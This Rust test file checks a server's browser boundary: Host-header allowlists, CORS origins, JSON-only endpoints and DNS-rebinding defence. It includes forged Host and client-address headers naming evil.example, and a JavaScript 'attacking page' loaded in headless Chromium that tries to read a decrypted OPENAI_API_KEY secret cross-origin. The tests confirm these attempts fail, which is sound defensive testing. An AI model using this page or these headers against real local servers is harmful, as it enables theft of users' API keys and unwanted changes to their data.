//! The browser boundary: which pages may call the server and under which host names it
//! answers. The checks live in the core, so every host runs these tests; the last one drives a
//! real headless Chromium (Debian's `chromium`, which scripts/test installs).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::mpsc;
use std::time::Duration;

use nodetool_edge_conformance::chromium::Chromium;
use nodetool_edge_conformance::{Host, Profile, Target};
use serde_json::Value;

const WF: &[u8] = br#"{"name":"from a page","access":"private","graph":{"nodes":[],"edges":[]}}"#;
const MASTER_KEY: (&str, &str) = (
    "SECRETS_MASTER_KEY",
    "browser-test-master-key-0123456789abcdef",
);

fn workflow_count(t: &Target) -> usize {
    let r = t.get("/api/workflows/");
    assert_eq!(r.status, 200, "{}", r.text());
    r.json()["workflows"].as_array().unwrap().len()
}

/// The port of the server's base URL.
fn port(t: &Target) -> u16 {
    t.base
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .parse()
        .unwrap()
}

#[test]
fn a_loopback_server_answers_only_loopback_host_names_and_allowed_hosts() {
    let Some(t) = Target::with_env(Profile::Local, &[("ALLOWED_HOSTS", "nodetool.lan")]) else {
        return;
    };
    let port = port(&t);
    // Workers reports the client's address only when Cloudflare (or wrangler) sets it.
    let checks_host = Host::current() != Host::Wrangler
        || t.anon("GET", "/health", &[("Host", b"evil.example")], b"")
            .status
            == 403;
    if !checks_host {
        eprintln!("wrangler dev gave no client address: the Host check cannot apply there");
        return;
    }
    for host in [
        "evil.example".to_string(),
        format!("evil.example:{port}"),
        format!("localhost.evil.example:{port}"),
        format!("0.0.0.0:{port}"),
    ] {
        let r = t.anon("GET", "/api/workflows/", &[("Host", host.as_bytes())], b"");
        assert_eq!(r.status, 403, "{host}: {}", r.text());
        assert!(r.detail().contains("ALLOWED_HOSTS"), "{}", r.text());
        // A client cannot claim to be elsewhere: the host replaces the header. (`wrangler dev`
        // passes a client's `CF-Connecting-IP` through; Cloudflare itself replaces it.)
        if Host::current() == Host::Wrangler {
            continue;
        }
        let r = t.anon(
            "GET",
            "/api/workflows/",
            &[
                ("Host", host.as_bytes()),
                ("spin-client-addr", b"203.0.113.7:4000"),
                ("cf-connecting-ip", b"203.0.113.7"),
            ],
            b"",
        );
        assert_eq!(r.status, 403, "{host} with a forged address: {}", r.text());
    }
    for host in [
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        format!("nodetool.lan:{port}"),
        format!("NodeTool.LAN:{port}"),
    ] {
        let r = t.anon("GET", "/api/workflows/", &[("Host", host.as_bytes())], b"");
        assert_eq!(r.status, 200, "{host}: {}", r.text());
    }
}

#[test]
fn pages_of_other_origins_cannot_change_state_and_json_endpoints_take_only_json() {
    let Some(t) = Target::new(Profile::Local) else {
        return;
    };
    for ct in ["application/json", "text/plain"] {
        let r = t.anon(
            "POST",
            "/api/workflows/",
            &[
                ("Origin", b"https://evil.example"),
                ("Content-Type", ct.as_bytes()),
            ],
            WF,
        );
        assert_eq!(r.status, 403, "{ct}: {}", r.text());
        assert!(r.detail().contains("CORS_ORIGINS"));
        assert_eq!(r.header("access-control-allow-origin"), None);
    }
    let r = t.anon(
        "DELETE",
        "/api/workflows/anything",
        &[("Origin", b"null")],
        b"",
    );
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(workflow_count(&t), 0);

    // No page behind it, but declared as something else than JSON: 415, and nothing is
    // created.
    for ct in [&b"text/plain"[..], b"application/x-www-form-urlencoded"] {
        let r = t.anon("POST", "/api/workflows/", &[("Content-Type", ct)], WF);
        assert_eq!(r.status, 415, "{}", r.text());
        assert_eq!(
            r.detail(),
            "Request body must be JSON (Content-Type: application/json)"
        );
    }
    assert_eq!(workflow_count(&t), 0);

    // A loopback page (NodeTool's web UI in development, say) may, and is told so.
    let r = t.anon(
        "POST",
        "/api/workflows/",
        &[
            ("Origin", b"http://localhost:3000"),
            ("Content-Type", b"application/json; charset=utf-8"),
        ],
        WF,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        r.header("access-control-allow-origin"),
        Some("http://localhost:3000")
    );
    assert_eq!(workflow_count(&t), 1);
}

#[test]
fn private_mode_allows_only_listed_origins_and_star_opens_all() {
    let Some(t) = Target::with_env(Profile::Static, &[("CORS_ORIGINS", "https://app.example")])
    else {
        return;
    };
    let preflight = |origin: &[u8]| {
        t.anon(
            "OPTIONS",
            "/api/workflows/",
            &[
                ("Origin", origin),
                ("Access-Control-Request-Method", b"POST"),
            ],
            b"",
        )
    };
    let r = preflight(b"https://app.example");
    assert_eq!(r.status, 204);
    assert_eq!(
        r.header("access-control-allow-origin"),
        Some("https://app.example")
    );
    // Loopback pages are a desktop allowance only.
    for other in [&b"http://localhost:3000"[..], b"https://evil.example"] {
        let r = preflight(other);
        assert_eq!(r.status, 204);
        assert_eq!(r.header("access-control-allow-origin"), None);
    }
    let r = t.call_with(
        "POST",
        "/api/workflows/",
        &[("Origin", "https://evil.example")],
        WF,
    );
    assert_eq!(r.status, 403, "{}", r.text());
    let r = t.call_with(
        "POST",
        "/api/workflows/",
        &[("Origin", "https://app.example")],
        WF,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    drop(t);

    let Some(t) = Target::with_env(Profile::Static, &[("CORS_ORIGINS", "*")]) else {
        return;
    };
    let r = t.call_with(
        "POST",
        "/api/workflows/",
        &[("Origin", "https://evil.example")],
        WF,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.header("access-control-allow-origin"), Some("*"));
}

/// Serves one page on loopback to a browser and hands back what the page reports.
struct PageServer {
    port: u16,
    reports: mpsc::Receiver<Value>,
}

impl PageServer {
    fn start(page: String) -> PageServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let (tx, reports) = mpsc::channel();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    continue;
                }
                let mut length = 0usize;
                loop {
                    let mut h = String::new();
                    if reader.read_line(&mut h).is_err() || h.trim().is_empty() {
                        break;
                    }
                    if let Some((k, v)) = h.split_once(':')
                        && k.eq_ignore_ascii_case("content-length")
                    {
                        length = v.trim().parse().unwrap_or(0);
                    }
                }
                let mut body = vec![0; length];
                let _ = reader.read_exact(&mut body);
                let (kind, answer) = if line.starts_with("POST /report") {
                    if let Ok(v) = serde_json::from_slice(&body) {
                        let _ = tx.send(v);
                    }
                    ("text/plain", String::new())
                } else if line.starts_with("GET /page") {
                    ("text/html", page.clone())
                } else {
                    ("text/plain", "not here".to_string())
                };
                let _ = write!(
                    stream,
                    "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
                    answer.len()
                );
            }
        });
        PageServer { port, reports }
    }
}

/// A page that tries what a hostile site would against a desktop server at `api`: read a
/// decrypted secret, post a workflow as `text/plain` (no preflight) and as JSON; it reports
/// what it could see.
fn attacking_page(api: &str) -> String {
    let wf = std::str::from_utf8(WF).unwrap();
    format!(
        r#"<!doctype html><meta charset="utf-8"><title>page</title><script>
const api = "{api}";
const wf = {wf:?};
async function attempt(send) {{
  try {{
    const r = await send();
    return {{ read: true, status: r.status, body: await r.text() }};
  }} catch (e) {{
    return {{ read: false, error: String(e) }};
  }}
}}
(async () => {{
  const secrets = await attempt(() =>
    fetch(api + "/api/settings/secrets/OPENAI_API_KEY?decrypt=true"));
  const plain = await attempt(() => fetch(api + "/api/workflows/",
    {{ method: "POST", headers: {{ "Content-Type": "text/plain" }}, body: wf }}));
  const json = await attempt(() => fetch(api + "/api/workflows/",
    {{ method: "POST", headers: {{ "Content-Type": "application/json" }}, body: wf }}));
  await fetch("/report", {{ method: "POST", body: JSON.stringify({{ secrets, plain, json }}) }});
}})();
</script>"#
    )
}

fn visit(url: &str, pages: &PageServer) -> Value {
    let _page = Chromium::new().open(url);
    pages
        .reports
        .recv_timeout(Duration::from_secs(60))
        .unwrap_or_else(|_| panic!("the page at {url} reported nothing within 60 s"))
}

#[test]
fn a_real_browser_page_of_another_origin_can_neither_read_secrets_nor_post_workflows() {
    let Some(t) = Target::with_env(Profile::Local, &[MASTER_KEY]) else {
        return;
    };
    let r = t.call(
        "PUT",
        "/api/settings/secrets/OPENAI_API_KEY",
        br#"{"value": "sk-desktop-secret"}"#,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let api = t.base.trim_end_matches('/').to_string();
    let pages = PageServer::start(attacking_page(&api));

    // A page of a foreign site (which resolves to loopback, as a DNS-rebinding one would).
    let report = visit(&format!("http://evil.test:{}/page", pages.port), &pages);
    for attempt in ["secrets", "plain", "json"] {
        assert_eq!(report[attempt]["read"], false, "{attempt}: {report}");
    }
    assert!(!report.to_string().contains("sk-desktop-secret"));
    assert_eq!(workflow_count(&t), 0, "a foreign page created a workflow");

    // The same page from a loopback origin is one of the desktop's own.
    let report = visit(&format!("http://localhost:{}/page", pages.port), &pages);
    assert_eq!(report["secrets"]["status"], 200, "{report}");
    assert!(
        report["secrets"]["body"]
            .as_str()
            .unwrap()
            .contains("sk-desktop-secret")
    );
    assert_eq!(report["plain"]["status"], 415, "{report}");
    assert_eq!(report["json"]["status"], 200, "{report}");
    assert_eq!(workflow_count(&t), 1);
}
